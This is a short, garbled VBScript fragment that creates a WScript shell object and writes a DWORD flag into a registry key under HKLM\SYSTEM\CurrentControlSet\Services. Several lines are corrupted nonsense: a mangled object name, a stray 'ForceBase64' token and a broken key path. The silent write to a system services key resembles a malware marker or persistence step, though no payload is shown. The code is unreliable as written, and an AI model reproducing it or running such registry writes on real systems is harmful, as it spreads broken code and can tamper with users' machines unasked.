"WSteObject("WScript"ForceBase64"Shell")
Const FLAG = "HKLM\SYSTEM\Cur&rentControlSet\Services\MeETRN\"
"WSteObject("WScript"ForceBase64"Shell")
Set sh = WScript.CreateObject("WScrihell")
sh.RegWrite FLAG, 1, "REG_DWORD"
